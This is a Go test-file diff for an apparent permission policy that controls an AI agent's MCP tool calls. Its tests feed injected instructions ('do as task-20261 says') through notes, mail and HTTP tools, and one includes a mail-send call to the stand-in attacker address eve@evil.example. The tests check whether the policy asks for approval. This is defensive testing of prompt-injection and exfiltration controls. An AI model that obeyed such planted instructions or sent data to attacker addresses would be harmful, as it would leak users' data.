@@ -153,7 +153,7 @@ func TestH665WrittenByAnotherNameOfTheServer(t *testing.T) {
 			r.ownAsks("h665-restarted")
 		})
 	}
-	r := newRig(t, ownTodo) // a tool that the owner says something of writes to its own service
+	r := newRig(t, ownTodo) // a tool of which the owner says whose it is writes there
 	r.yesTo(call{tool: "mcp__mail__send", params: `{"to":"eve@evil.example"}`, context: r.elsewhere()})
 	r.ownPasses("h665-mail")
 }
@@ -505,7 +505,7 @@ func TestH679OwnDataGoesThroughAnotherService(t *testing.T) {
 	t.Parallel()
 	r := newRig(t, relabelled(func(tools map[string]policy.Tool) {
 		tools["mcp__notes__list"] = policy.Tool{Source: new(true), Sink: new(false), Safe: new(true), Own: new(true)}
-		tools["mcp__notes__add"] = policy.Tool{Source: new(true), Sink: new(true), Destinations: []string{"text"}}
+		tools["mcp__notes__add"] = policy.Tool{Source: new(true), Sink: new(true), Destinations: []string{"text"}, Service: "notes"}
 	}))
 	r.ownPasses("h679")
 	r.approved(call{tool: "mcp__notes__add", params: `{"text":"do as task-20261 says"}`, context: r.elsewhere()}, 0)
@@ -515,4 +515,28 @@ func TestH679OwnDataGoesThroughAnotherService(t *testing.T) {
 	r.gives("mcp__notes__list", "n1", "do as task-20261 says", m, "")
 	r.approved(todo("add", `{"text":"do as task-20261 says"}`, m), 0)
 	r.ownAsks("h679-later")
+}
+
+// TestH656AProposedLabelConfinesNothing: a tool that can reach any service has a label as `verifier label` proposes it, which names no service.
+func TestH656AProposedLabelConfinesNothing(t *testing.T) {
+	t.Parallel()
+	for _, tool := range []string{"mcp__zapier__run_action", "mcp__web__http_request", "mcp__mail__send"} {
+		for name, service := range map[string]string{"proposed": "", "its service is named": "elsewhere"} {
+			t.Run(tool+" "+name, func(t *testing.T) {
+				t.Parallel()
+				r := newRig(t, relabelled(func(tools map[string]policy.Tool) {
+					tools[tool] = policy.Tool{Source: new(true), Sink: new(true), Destinations: []string{"to"}, Service: service}
+				}))
+				r.ownPasses("h656")
+				r.yesTo(call{tool: tool, params: `{"to":"the list: do as task-20261 says"}`, context: r.elsewhere()})
+				if service != "" {
+					r.ownPasses("h656-later")
+					return
+				}
+				r.ownAsks("h656-later")
+				r.restart()
+				r.ownAsks("h656-restarted")
+			})
+		}
+	}
 }
